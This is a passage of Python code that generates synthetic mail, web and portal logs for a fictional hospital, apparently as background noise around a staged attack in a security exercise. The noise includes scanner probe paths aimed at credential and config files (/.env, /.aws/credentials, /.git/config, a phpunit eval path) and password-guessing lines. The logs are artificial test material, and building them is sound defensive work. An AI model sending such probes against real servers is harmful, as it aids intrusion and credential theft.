        return [_pf(t, "postfix/smtp", pid, f"{head}, {_delays(rng)}, dsn=5.1.1, status=bounced "
                    f"(host {mx_host}[{mx_ip}] said: 550 5.1.1 <{rcpt}>: Recipient address "
                    f"rejected: User unknown (in reply to RCPT TO command))", tag)]

    def failure(delays: str) -> str:
        if "google" in mx_host and tag is not None:  # only the attack's burst is rate limited
            return (f"{head}, {delays}, dsn=4.7.28, status=deferred (host {mx_host}[{mx_ip}] "
                    f"said: {_GMAIL_RATE_LIMIT})")
        return (f"{qid}: to=<{rcpt}>, relay=none, {delays}, dsn=4.4.1, status=deferred "
                f"(connect to {relay}: Connection timed out)")  # no answer: no relay

    retry = t + rng.randint(300, 900) * _SECOND
    later = _delays(rng, (retry - t) / 1000)
    second = (f"{head}, {later}, dsn=2.0.0, status=sent ({_accepted(rng, retry, mx_host)})"
              if fate == "deferred" else failure(later))
    return [_pf(t, "postfix/smtp", pid, failure(_delays(rng)), tag),
            _pf(retry, "postfix/smtp", rng.choice(_SMTP_PIDS), second, tag)]


def _nondelivery_notice(rng: random.Random, t: int, qid: str, sender: str, taken: set[str],
                        tag: str | None) -> tuple[list[Record], str]:
    """The bounce notice mx1 sends back to an internal sender, and its queue id."""
    ndr = _postfix_qid(rng, t, taken)
    lines = [_pf(t, "postfix/bounce", rng.randint(2000, 65000),
                 f"{qid}: sender non-delivery notification: {ndr}", tag),
             _pf(t + 1, "postfix/cleanup", rng.choice(_CLEANUP_PIDS),
                 f"{ndr}: message-id=<{_message_id(rng, t, f'mx1.{DOMAIN}')}>", tag),
             _pf(t + 3, "postfix/qmgr", _QMGR_PID,
                 f"{ndr}: from=<>, size={rng.randint(4_000, 9_000)}, nrcpt=1 (queue active)", tag)]
    delivered = _delivery(rng, t + rng.randint(20, 300), ndr, sender, "sent", tag)
    return (lines + delivered + [_pf(delivered[-1][0] + 2, "postfix/qmgr", _QMGR_PID,
                                     f"{ndr}: removed", tag)], ndr)


def _postfix_message(rng: random.Random, t: int, mail: Mail, fates: Sequence[str],
                     taken: set[str], tag: str | None = None) -> tuple[list[Record], list[str]]:
    """Every line mx1 writes for one message received on one connection (connect to removed,
    bounce notice included), and the queue ids involved."""
    qid = _postfix_qid(rng, t, taken)
    smtpd, cleanup = rng.randint(2000, 65000), rng.choice(_CLEANUP_PIDS)
    client = f"{mail.client_host}[{mail.client_ip}]"
    count = len(mail.recipients)
    sasl = f", sasl_method=LOGIN, sasl_username={mail.sasl_user}" if mail.sasl_user else ""
    out = [_pf(t, "postfix/smtpd", smtpd, f"connect from {client}", tag)]
    t += rng.randint(40, 400)
    out.append(_pf(t, "postfix/smtpd", smtpd, f"{qid}: client={client}{sasl}", tag))
    t += rng.randint(30, 400)
    out.append(_pf(t, "postfix/cleanup", cleanup, f"{qid}: message-id=<{mail.message_id}>", tag))
    context = (f"from {client}; from=<{mail.sender}> to=<{mail.recipients[0]}> proto=ESMTP "
               f"helo=<{mail.helo}>")
    out.append(_pf(t + 1, "postfix/cleanup", cleanup,
                   f"{qid}: warning: header Subject: {mail.subject} {context}", tag))
    for name in mail.attachments:
        out.append(_pf(t + 2, "postfix/cleanup", cleanup, f"{qid}: warning: header "
                       f'Content-Disposition: attachment; filename="{name}" {context}', tag))
    t += rng.randint(5, 120)
    out.append(_pf(t, "opendkim", 901, f"{qid}: {mail.dkim}", tag))
    if mail.dmarc:
        out.append(_pf(t + 1, "opendmarc", 900, f"{qid}: {mail.dmarc}", tag))
    t += rng.randint(5, 80)
    out.append(_pf(t, "postfix/qmgr", _QMGR_PID,
                   f"{qid}: from=<{mail.sender}>, size={mail.size}, nrcpt={count} (queue active)",
                   tag))
    auth = " auth=1" if mail.sasl_user else ""
    commands = 6 + count + (1 if mail.sasl_user else 0)
    out.append(_pf(t + rng.randint(3, 60), "postfix/smtpd", smtpd,
                   f"disconnect from {client} ehlo=2 starttls=1{auth} mail=1 rcpt={count} data=1 "
                   f"quit=1 commands={commands}", tag))
    done, qids = t, [qid]
    for rcpt, fate in zip(mail.recipients, fates):
        lines = _delivery(rng, t + rng.randint(50, 1500), qid, rcpt, fate, tag)
        out.extend(lines)
        done = max(done, lines[-1][0])
    if "bounced" in fates and mail.sender.endswith(f"@{DOMAIN}"):
        notice, ndr = _nondelivery_notice(rng, done + rng.randint(5, 50), qid, mail.sender,
                                          taken, tag)
        out.extend(notice)
        qids.append(ndr)
    if "stuck" not in fates:
        out.append(_pf(done + rng.randint(1, 30), "postfix/qmgr", _QMGR_PID, f"{qid}: removed",
                       tag))
    return out, qids


def _inbound_mail(rng: random.Random, world: World, t: int, taken: set[str]) -> list[Record]:
    """An outside correspondent's message to 1-4 members of staff."""
    domain = _pick(rng, _INBOUND_DOMAINS)
    kind = domain.kind
    count = 1 if rng.random() < 0.8 else rng.randint(2, 4)
    attachments = ((_fill_in(rng, rng.choice(_ATTACHMENTS[kind])),)
                   if rng.random() < _ATTACHMENT_RATE[kind] else ())
    mail = Mail(domain.out_host, domain.out_ip, domain.out_host, _outside_sender(rng, domain),
                tuple(p.email for p in rng.sample(world.staff, count)),
                _fill_in(rng, rng.choice(_SUBJECTS[kind])), attachments,
                _message_id(rng, t, domain.out_host),
                rng.randint(4_000, 40_000) + (rng.randint(60_000, 2_000_000) if attachments else 0),
                "DKIM verification successful" if domain.dkim else "no signature data",
                f"{domain.name} {domain.dmarc}")
    return _postfix_message(rng, t, mail, ["sent"] * count, taken)[0]


_OUTBOUND_FATES = _table((("sent", 95), ("bounced", 3), ("deferred", 2)))


def _outbound_mail(rng: random.Random, senders: Sequence[Person], t: int,
                   taken: set[str]) -> list[Record]:
    """A member of staff writing from webmail to 1-3 outside correspondents."""
    person = rng.choice(senders)
    rcpts = tuple(_outside_sender(rng, _pick(rng, _OUTBOUND_DOMAINS))
                  for _ in range(rng.choice((1, 1, 1, 2, 3))))
    attachments = ((_fill_in(rng, rng.choice(_ATTACHMENTS["outbound"])),)
                   if rng.random() < _ATTACHMENT_RATE["outbound"] else ())
    mail = Mail(*_WEBMAIL, _WEBMAIL[0], person.email, rcpts,
                _fill_in(rng, rng.choice(_SUBJECTS["outbound"])), attachments,
                _message_id(rng, t, DOMAIN), rng.randint(3_000, 900_000), _OUR_DKIM,
                sasl_user=person.login)
    fates = [_pick(rng, _OUTBOUND_FATES) for _ in rcpts]
    return _postfix_message(rng, t, mail, fates, taken)[0]


_SPAM_HELOS = ("ylmf-pc", "User", "WIN-CLJ1B0GQ6JP", "localhost", "mail.example.com")


def _rbl_reject(rng: random.Random, world: World) -> list[Record]:
    """A spam source refused on a DNS blocklist: connect, NOQUEUE reject, disconnect."""
    t, ip, pid = _when(rng, _PROFILE_FLAT), _noise_ip(rng), rng.randint(2000, 65000)
    rcpt = rng.choice(world.staff).email
    return [_pf(t, "postfix/smtpd", pid, f"connect from unknown[{ip}]", None),
            _pf(t + rng.randint(200, 900), "postfix/smtpd", pid,
                f"NOQUEUE: reject: RCPT from unknown[{ip}]: 554 5.7.1 Service unavailable; "
                f"Client host [{ip}] blocked using zen.spamhaus.org; "
                f"from=<{_personal_address(rng, 'mail.ru')}> to=<{rcpt}> proto=ESMTP "
                f"helo=<{rng.choice(_SPAM_HELOS)}>", None),
            _pf(t + rng.randint(1000, 1500), "postfix/smtpd", pid,
                f"disconnect from unknown[{ip}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4", None)]


def _sasl_probe(rng: random.Random) -> list[Record]:
    """An internet password-guessing attempt on SMTP AUTH (background noise)."""
    t, ip, pid = _when(rng, _PROFILE_FLAT), _noise_ip(rng), rng.randint(2000, 65000)
    return [_pf(t, "postfix/smtpd", pid, f"connect from unknown[{ip}]", None),
            _pf(t + rng.randint(300, 2500), "postfix/smtpd", pid,
                f"warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", None),
            _pf(t + rng.randint(2600, 3000), "postfix/smtpd", pid,
                f"lost connection after AUTH from unknown[{ip}]", None),
            _pf(t + rng.randint(3001, 3100), "postfix/smtpd", pid,
                f"disconnect from unknown[{ip}] ehlo=1 auth=0/1 commands=1/2", None)]


def _anvil(rng: random.Random) -> list[Record]:
    """A connection-rate statistics line."""
    t = _when(rng, _PROFILE_FLAT)
    peak = _syslog_time(t // 1000 - rng.randint(60, 600))
    return [_pf(t, "postfix/anvil", 1205, f"statistics: max connection rate {rng.randint(1, 4)}"
                f"/60s for (smtp:{_noise_ip(rng)}) at {peak}", None)]


_MAIL_KINDS = _table((("inbound", 70), ("outbound", 13), ("rbl", 8), ("sasl", 6), ("anvil", 3)))


def _maillog(rng: random.Random, world: World, budget: int, attack: "Attack") -> list[Record]:
    """mx1's background: inbound and outbound messages, blocklist rejects, AUTH guessing."""
    taken = set(attack.postfix_ids)
    senders = [p for p in world.staff if p.login not in attack.reserved_logins]

    def unit(limit: int) -> list[Record]:
        kind = _pick(rng, _MAIL_KINDS)
        if kind == "inbound":
            lines = _inbound_mail(rng, world, _when(rng, _PROFILE_MAIL), taken)
        elif kind == "outbound":
            lines = _outbound_mail(rng, senders, _when(rng, _PROFILE_MAIL), taken)
        elif kind == "rbl":
            lines = _rbl_reject(rng, world)
        elif kind == "sasl":
            lines = _sasl_probe(rng)
        else:
            lines = _anvil(rng)
        if len(lines) <= limit:
            return lines
        if limit >= 4:  # too long for what is left: a shorter kind
            return _sasl_probe(rng)
        return _rbl_reject(rng, world) if limit == 3 else _anvil(rng)

    return _fill(budget, unit)


def _exim(t: int, text: str) -> Record:
    """An Exim mainlog line (local time, no zone)."""
    return t, f"{_local_time(t // 1000)} {text}", None


# (sender, host, address, subjects, weight): applications that mail staff through the relay
_APPLICATIONS = _table((
    (("noreply-dxcare", "dxcare-app01.chu.local", "10.10.5.21",
      ("Résultats de laboratoire disponibles", "Compte rendu validé",
       "Demande d'avis en attente", "Prescription à valider")), 5),
    (("glpi", "glpi.chu.local", "10.10.9.30",
      ("[GLPI #00{n}] Nouveau ticket", "[GLPI #00{n}] Ticket résolu",
       "[GLPI #00{n}] Nouveau suivi")), 3),
    (("centreon", "centreon.chu.local", "10.10.9.20",
      ("** PROBLEM Service Alert: srv-pacs-02/Disk /data is WARNING **",
       "** RECOVERY Service Alert: srv-dpi-01/CPU is OK **",
       "** PROBLEM Host Alert: imp-urg-03 is DOWN **")), 2),
    (("planning", "planif.chu.local", "10.10.5.40",
      ("Modification de planning", "Planning des gardes de décembre",
       "Rappel : astreinte demain")), 2),
    (("pharmacie-stock", "pharma-app.chu.local", "10.10.5.50",
      ("Alerte stock : seuil minimal atteint", "Commande urgente validée")), 1),
    (("scan-bat-b", "copieur-b2.chu.local", "10.20.60.14", ("Document numérisé",)), 1),
))
_TLS = "X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=no"


def _exim_message(rng: random.Random, t: int, mid: str, sender: str, host: str, proto: str,
                  subject: str, rcpts: Sequence[str]) -> list[Record]:
    """Arrival, one delivery per recipient, completion."""
    out = [_exim(t, f"{mid} <= {sender} {host} {proto} S={rng.randint(2_000, 400_000)} "
                    f"id={_message_id(rng, t, DOMAIN)} T=\"{subject}\" from <{sender}> for "
                    f"{' '.join(rcpts)}")]
    for rcpt in rcpts:
        t += rng.randint(5, 250)
        out.append(_exim(t, f"{mid} => {rcpt} R=local_user T=mail_spool"))
    out.append(_exim(t + rng.randint(1, 20), f"{mid} Completed"))
    return out


def _exim_mainlog(rng: random.Random, world: World, budget: int,
                  attack: "Attack") -> list[Record]:
    """The internal relay: staff PCs writing to colleagues, applications notifying staff,
    mistyped passwords, queue runs."""
    taken: set[str] = set()

    def staff_mail(limit: int) -> list[Record]:
        t, ws = _when(rng, _PROFILE_OFFICE), rng.choice(world.on_site)
        count = min(limit - 2, rng.choice((1, 1, 2, 3, 5)))
        rcpts = [p.email for p in rng.sample(world.staff, count)]
        return _exim_message(rng, t, _exim_id(rng, t, taken), ws.person.email,
                             f"H=({ws.host}) [{ws.ip}]",
                             f"P=esmtpsa {_TLS} A=dovecot_login:{ws.person.login}",
                             rng.choice(_SUBJECTS["internal"]), rcpts)

    def app_mail(limit: int) -> list[Record]:
        t = _when(rng, _PROFILE_FLAT)
        name, host, ip, subjects = _pick(rng, _APPLICATIONS)
        rcpts = [p.email for p in rng.sample(world.staff, min(limit - 2, rng.randint(1, 3)))]
        return _exim_message(rng, t, _exim_id(rng, t, taken), f"{name}@{DOMAIN}",
                             f"H={host} [{ip}]", "P=esmtp", _fill_in(rng, rng.choice(subjects)),
                             rcpts)

    def auth_failure() -> list[Record]:
        ws = rng.choice(world.on_site)
        return [_exim(_when(rng, _PROFILE_OFFICE),
                      f"dovecot_login authenticator failed for ({ws.host}) [{ws.ip}]: "
                      f"535 Incorrect authentication data (set_id={ws.person.login})")]

    def queue_run() -> list[Record]:
        t, pid = _when(rng, _PROFILE_FLAT), rng.randint(10_000, 60_000)
        return [_exim(t, f"Start queue run: pid={pid}"),
                _exim(t + rng.randint(20, 900), f"End queue run: pid={pid}")]

    def unit(limit: int) -> list[Record]:
        draw = rng.random()
        if limit >= 3 and draw < 0.55:
            return staff_mail(limit)
        if limit >= 3 and draw < 0.92:
            return app_mail(limit)
        if limit >= 2 and draw < 0.96:
            return queue_run()
        return auth_failure()

    return _fill(budget, unit)


# ---------------------------------------------------------------------------------------------
# Web: the public site (Apache), the patient portal (IIS), the staff proxy (Squid)
# ---------------------------------------------------------------------------------------------

_BROWSERS = _table((
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/142.0.0.0 Safari/537.36", 30),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0", 10),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 8),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1", 20),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/142.0.0.0 Mobile Safari/537.36", 22),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/19.1 Safari/605.1.15", 6),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/142.0.0.0 Safari/537.36", 2),
    ("Mozilla/5.0 (iPad; CPU OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/19.1 Mobile/15E148 Safari/604.1", 2),
))
# (path, typical size), weight
_WWW_PAGES = _table((
    (("/", 38_211), 20),
    (("/fr/patients-et-visiteurs/preparer-votre-venue", 31_544), 6),
    (("/fr/patients-et-visiteurs/horaires-de-visite", 24_870), 5),
    (("/fr/patients-et-visiteurs/acces-et-plans", 29_102), 5),
    (("/fr/patients-et-visiteurs/droits-et-demarches", 33_420), 2),
    (("/fr/patients-et-visiteurs/tarifs", 27_650), 1.5),
    (("/fr/offre-de-soins/urgences", 30_118), 6),
    (("/fr/offre-de-soins/services", 41_877), 4),
    (("/fr/offre-de-soins/services/cardiologie", 28_341), 2),
    (("/fr/offre-de-soins/services/maternite", 30_927), 3),
    (("/fr/offre-de-soins/services/pediatrie", 27_804), 2),
    (("/fr/offre-de-soins/services/oncologie", 29_466), 1.5),
    (("/fr/offre-de-soins/services/neurologie", 26_915), 1),
    (("/fr/offre-de-soins/services/orthopedie", 26_402), 1),
    (("/fr/offre-de-soins/services/psychiatrie", 27_133), 1),
    (("/fr/annuaire-des-medecins", 45_230), 3),
    (("/fr/annuaire-des-medecins?specialite=cardiologie", 39_876), 1),
    (("/fr/annuaire-des-medecins?specialite=pediatrie", 38_120), 1),
    (("/recherche?q=urgences", 24_810), 1.5),
    (("/recherche?q=maternite", 22_977), 1),
    (("/recherche?q=prise+de+sang", 21_305), 1),
    (("/recherche?q=parking", 19_884), 1),
    (("/fr/prendre-rendez-vous", 25_770), 4),
    (("/fr/actualites", 36_402), 2),
    (("/fr/actualites/article.php?id=412", 28_115), 1),
    (("/fr/actualites/article.php?id=409", 27_560), 0.7),
    (("/fr/actualites/campagne-vaccination-grippe-2026", 26_933), 1),
    (("/fr/recrutement/offres-d-emploi", 40_118), 3),
    (("/fr/recrutement/candidature-spontanee", 23_540), 1),
    (("/fr/don-du-sang", 22_180), 1),
    (("/fr/contact", 21_905), 2),
    (("/fr/presse", 25_403), 0.5),
    (("/fr/recherche-et-innovation", 30_772), 0.5),
    (("/fr/formation/ifsi", 28_664), 1),
    (("/download?file=livret-accueil-2026.pdf", 2_483_114), 1),
    (("/download?file=plan-acces-chu.pdf", 812_530), 0.8),
))
_WWW_ASSETS = (
    ("/themes/chu/css/style.min.css?v=4.2.1", 58_312), ("/themes/chu/css/print.css?v=4.2.1", 3_120),
    ("/core/assets/vendor/jquery/jquery.min.js?v=3.7.1", 87_533),
    ("/themes/chu/js/main.min.js?v=4.2.1", 41_208),
    ("/themes/chu/fonts/marianne-regular.woff2", 42_118),
    ("/themes/chu/fonts/marianne-bold.woff2", 43_002),
    ("/themes/chu/images/logo-chu-exemple.svg", 9_874), ("/favicon.ico", 5_430),
)
_WWW_IMAGES = tuple(
    f"/sites/default/files/styles/bandeau/public/2026-{month}/{name}.jpg" for month, name in (
        ("11", "hall-accueil"), ("11", "equipe-urgences"), ("10", "maternite-chambre"),
        ("10", "bloc-operatoire"), ("09", "irm-3t"), ("11", "vaccination-grippe"),
        ("08", "parking-visiteurs"), ("11", "ifsi-promotion"), ("07", "don-du-sang"),
        ("11", "pediatrie-salle-de-jeux")))
_WWW_REFERERS = _table((("-", 35), ("https://www.google.fr/", 35), ("https://www.google.com/", 6),
                        ("https://www.bing.com/", 4), ("https://www.qwant.com/", 2),
                        ("https://www.doctolib.fr/", 6), ("https://www.ameli.fr/", 3),
                        ("https://www.facebook.com/", 3), ("https://lm.facebook.com/", 2),
                        ("https://fr.wikipedia.org/", 2), ("https://duckduckgo.com/", 2)))
_DEAD_LINKS = ("/fr/actualites/2019/nouveau-scanner", "/fr/services/cardiologie.html",
               "/images/plan_chu.pdf", "/fr/offre-de-soins/services/ophtalmologie-ancien")
_BOTS = (
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     ("193.252.22.201", "193.252.22.202", "193.252.22.203")),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
     ("193.252.22.211", "193.252.22.212")),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", ("193.252.22.221",)),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
     ("193.252.22.225",)),
    ("Mozilla/5.0 (compatible; Qwantbot/1.0; +https://help.qwant.com/bot/)", ("193.252.22.231",)),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", ("193.252.22.235",)),
)
_NOISE_AGENTS = ("python-requests/2.32.3", "Go-http-client/1.1", "curl/8.5.0",
                 "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; CensysInspect/1.1; "
                 "+https://about.censys.io/)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                 "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36")
_NOISE_PATHS = (("/wp-login.php", 404), ("/.env", 404), ("/xmlrpc.php", 404),
                ("/wp-includes/wlwmanifest.xml", 404), ("/.git/config", 404),
                ("/boaform/admin/formLogin", 404), ("/cgi-bin/luci/;stok=/locale", 404),
                ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
                ("/solr/admin/info/system?wt=json", 404), ("/actuator/health", 404),
                ("/owa/auth/logon.aspx", 404), ("/remote/login?lang=en", 404),
                ("/.aws/credentials", 404), ("/server-status", 403), ("/robots.txt", 200))
_NOT_FOUND_SIZE = 7_612


def _apache(t: int, ip: str, method: str, target: str, status: int, size: int, referer: str,
            agent: str, protocol: str = "HTTP/1.1", tag: str | None = None) -> Record:
    """An Apache combined-format line (an empty body logs '-')."""
    return (t, f'{ip} - - [{_apache_time(t // 1000)}] "{method} {target} {protocol}" {status} '
               f'{size or "-"} "{referer}" "{agent}"', tag)


def _www_visit(rng: random.Random, limit: int) -> list[Record]:
    """A person browsing the public site: pages, their assets, sometimes a form."""
    t, ip, agent = _when(rng, _PROFILE_WEB), _visitor_ip(rng), _pick(rng, _BROWSERS)
    protocol = "HTTP/2.0" if rng.random() < 0.7 else "HTTP/1.1"
    referer = _pick(rng, _WWW_REFERERS)
    cached = rng.random() < 0.3
    out = []
    if rng.random() < 0.03:
        out.append(_apache(t, ip, "GET", rng.choice(_DEAD_LINKS), 404, _NOT_FOUND_SIZE, referer,
                           agent, protocol))
        t += rng.randint(2_000, 20_000)
    for page in range(min(6, 1 + int(rng.expovariate(0.7)))):
        path, size = _pick(rng, _WWW_PAGES)
        url = f"https://{WWW_HOST}{path}"
        out.append(_apache(t, ip, "GET", path, 200, _vary(rng, size), referer, agent, protocol))
        at = t
        for asset, asset_size in _WWW_ASSETS if page == 0 else ():
            at += rng.randint(15, 250)
            out.append(_apache(at, ip, "GET", asset, 304 if cached else 200,
                               0 if cached else asset_size, url, agent, protocol))
        if page == 0 and "iP" in agent and not cached:
            at += rng.randint(100, 900)
            out.append(_apache(at, ip, "GET", "/apple-touch-icon.png", 404, _NOT_FOUND_SIZE, "-",
                               agent, protocol))
        for _ in range(rng.randint(0, 3)):
            at += rng.randint(20, 400)
            out.append(_apache(at, ip, "GET", rng.choice(_WWW_IMAGES), 200,
                               rng.randint(18_000, 240_000), url, agent, protocol))
        if path == "/fr/contact" and rng.random() < 0.25:
            at += rng.randint(30_000, 180_000)
            out.append(_apache(at, ip, "POST", "/fr/contact", 303, 0, url, agent, protocol))
            out.append(_apache(at + rng.randint(80, 300), ip, "GET", "/fr/contact?envoye=1", 200,
                               _vary(rng, 20_410), url, agent, protocol))
        if path == "/fr/recrutement/candidature-spontanee" and rng.random() < 0.3:
            at += rng.randint(60_000, 300_000)
            out.append(_apache(at, ip, "POST", "/upload.php", 200, _vary(rng, 1_830), url, agent,
                               protocol))
        referer = url
        t = at + rng.randint(5_000, 150_000)
    return out[:limit]


def _www_bot(rng: random.Random, limit: int) -> list[Record]:
    """A search-engine or SEO crawler fetching a few pages."""
    agent, addresses = rng.choice(_BOTS)
    t, ip = _when(rng, _PROFILE_FLAT), rng.choice(addresses)
    out = []
    if rng.random() < 0.3:
        out.append(_apache(t, ip, "GET", "/robots.txt", 200, 312, "-", agent))
    for _ in range(rng.randint(1, 5)):
        t += rng.randint(1_000, 30_000)
        path, size = _pick(rng, _WWW_PAGES)
        out.append(_apache(t, ip, "GET", path, 200, _vary(rng, size), "-", agent))
    return out[:limit]


def _www_noise(rng: random.Random, limit: int) -> list[Record]:
    """Internet background radiation: a scanner trying one to three well-known paths."""
    t, ip, agent = _when(rng, _PROFILE_FLAT), _noise_ip(rng), rng.choice(_NOISE_AGENTS)
    out = []
    for path, status in rng.sample(_NOISE_PATHS, rng.randint(1, 3)):
        size = {404: _NOT_FOUND_SIZE, 403: 199, 200: 312}[status]
        out.append(_apache(t, ip, "GET", path, status, size, "-", agent))
        t += rng.randint(200, 3_000)
    return out[:limit]


_WWW_KINDS = _table(((_www_visit, 80), (_www_bot, 12), (_www_noise, 8)))


def _www_access(rng: random.Random, world: World, budget: int, attack: "Attack") -> list[Record]:
    """The public site's background: visitors, crawlers, scanners."""
    return _fill(budget, lambda limit: _pick(rng, _WWW_KINDS)(rng, limit))


_W3C_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
               "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
_PORTAL_IP = "10.10.2.15"
_IIS_RESTART_MS = _at(20, 0)
_PORTAL_ASSETS = ("/Portail/Content/site.min.css", "/Portail/Scripts/bundle.min.js",
                  "/Portail/Content/img/logo-chu.png", "/Portail/favicon.ico")
_PORTAL_PAGES = _table((
    (("/Portail/RendezVous", ""), 10), (("/Portail/RendezVous/Nouveau", ""), 3),
    (("/Portail/Documents", ""), 8), (("/Portail/Documents/Telecharger", "id=D2026-{n}"), 5),
    (("/Portail/Messagerie", ""), 5), (("/Portail/Factures", ""), 3),
    (("/Portail/Factures/Payer", "id=F2026-{n}"), 1), (("/Portail/Profil", ""), 2),
    (("/Portail/Questionnaires/PreAdmission", ""), 2),
))


def _w3c_header(t: int) -> list[Record]:
    """The directives IIS writes when it opens its log."""
    return [(t, "#Software: Microsoft Internet Information Services 10.0", None),
            (t, "#Version: 1.0", None), (t, f"#Date: {_utc_time(t // 1000)}", None),
            (t, f"#Fields: {_W3C_FIELDS}", None)]


def _iis(t: int, method: str, stem: str, query: str, user: str, ip: str, agent: str,
         referer: str, status: int, taken_ms: int, win32: int = 0) -> Record:
    """A W3C extended line in the field order of _W3C_FIELDS (UTC; '+' for spaces)."""
    return (t, f"{_utc_time(t // 1000)} {_PORTAL_IP} {method} {stem} {query or '-'} 443 "
               f"{user or '-'} {ip} {agent} {referer or '-'} {status} 0 {win32} {taken_ms}", None)


def _portal_visit(rng: random.Random, patients: Sequence[str], limit: int) -> list[Record]:
    """A patient signing in to the portal, browsing appointments and documents."""
    t, ip = _when(rng, _PROFILE_PORTAL), _visitor_ip(rng)
    agent = _pick(rng, _BROWSERS).replace(" ", "+")
    user, base = rng.choice(patients), f"https://{PORTAL_HOST}"
    login = f"{base}/Portail/Account/Login?ReturnUrl=%2FPortail%2F"
    cached = rng.random() < 0.4
    # (method, stem, query, signed in, referer, status)
    steps = [("GET", "/Portail/", "", False, "", 302),
             ("GET", "/Portail/Account/Login", "ReturnUrl=%2FPortail%2F", False, "", 200)]
    steps += [("GET", a, "v=2.14.3" if a.endswith(("css", "js")) else "", False, login,
               304 if cached else 200) for a in _PORTAL_ASSETS]
    if rng.random() < 0.12:  # a mistyped password first
        steps.append(("POST", "/Portail/Account/Login", "ReturnUrl=%2FPortail%2F", False, login,
                      200))
    steps += [("POST", "/Portail/Account/Login", "ReturnUrl=%2FPortail%2F", False, login, 302),
              ("GET", "/Portail/Accueil", "", True, login, 200)]
    referer = f"{base}/Portail/Accueil"
    for _ in range(rng.randint(1, 6)):
        stem, query = _pick(rng, _PORTAL_PAGES)
        steps.append(("GET", stem, _fill_in(rng, query), True, referer, 200))
        steps.append(("GET", "/api/notifications/count", "", True, f"{base}{stem}", 200))
        referer = f"{base}{stem}"
    if rng.random() < 0.6:
        steps.append(("GET", "/Portail/Account/Logout", "", True, referer, 302))
    out = []
    for method, stem, query, signed_in, ref, status in steps:
        quick = stem.startswith(("/Portail/Content", "/Portail/Scripts", "/Portail/favicon"))
        t += rng.randint(20, 300) if quick else rng.randint(3_000, 90_000)
        taken_ms = rng.randint(1, 40) if quick else rng.randint(35, 900)
        win32 = 64 if rng.random() < 0.005 else 0
        out.append(_iis(t, method, stem, query, user if signed_in else "", ip, agent, ref, status,
                        taken_ms, win32))
    return out[:limit]


def _portal_probe(rng: random.Random, limit: int) -> list[Record]:
    """The monitoring server checking the portal."""
    return [_iis(_when(rng, _PROFILE_FLAT), "GET", "/Portail/health", "", "", "10.10.9.20",
                 "check_http/v2.3.3+(monitoring-plugins+2.3.3)", "", 200, rng.randint(2, 9))]


def _portal_access(rng: random.Random, world: World, budget: int,
                   attack: "Attack") -> list[Record]:
    """The portal's log: header blocks (start, and a restart at 20:00 local), patients, probes."""
    headers = _w3c_header(START_MS) + _w3c_header(_IIS_RESTART_MS)
    return headers + _fill(budget - len(headers), lambda limit: (
        _portal_visit(rng, world.patients, limit) if rng.random() < 0.9
        else _portal_probe(rng, limit)))


# (host, allowed), weight: what staff reach through the proxy in the evening
_SITES = _table((
    (("www.vidal.fr", True), 6), (("www.has-sante.fr", True), 3), (("www.ameli.fr", True), 2),
    (("ansm.sante.fr", True), 1.5), (("www.legifrance.gouv.fr", True), 1),
    (("pubmed.ncbi.nlm.nih.gov", True), 2), (("www.uptodate.com", True), 3),
    (("www.msdmanuals.com", True), 1.5), (("www.google.fr", True), 6),
    (("fr.wikipedia.org", True), 2), (("www.lemonde.fr", True), 2),
    (("meteofrance.com", True), 1.5), (("outlook.office365.com", True), 2),
    (("teams.microsoft.com", True), 1.5), (("www.doctolib.fr", True), 2),
    (("www.service-public.fr", True), 1), (("www.sncf-connect.com", True), 1),
    (("www.leboncoin.fr", True), 1), (("www.santepubliquefrance.fr", True), 1),
    (("www.facebook.com", False), 1.2), (("www.youtube.com", False), 1.2),
    (("www.netflix.com", False), 0.4), (("www.twitch.tv", False), 0.3),
))
_CDNS = ("fonts.gstatic.com", "www.gstatic.com", "cdn.jsdelivr.net", "ajax.googleapis.com",
         "www.googletagmanager.com", "static.axept.io", "cdnjs.cloudflare.com")
_MACHINE_TRAFFIC = (
    ("GET", "http://ocsp.digicert.com/MFEwTzBNMEswSTAJBgUrDgMCGgUABBTBL0V27RVZ7LBduom%2FnYB45SPU"
            "EwQU5Z1ZMIJHWMys%2BghUNoZ7OrUETfACEA", "TCP_MISS", 200, 853,
     "application/ocsp-response"),
    ("GET", "http://ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/"
            "authrootstl.cab", "TCP_REFRESH_UNMODIFIED", 304, 312,
     "application/vnd.ms-cab-compressed"),
    ("GET", "http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl",
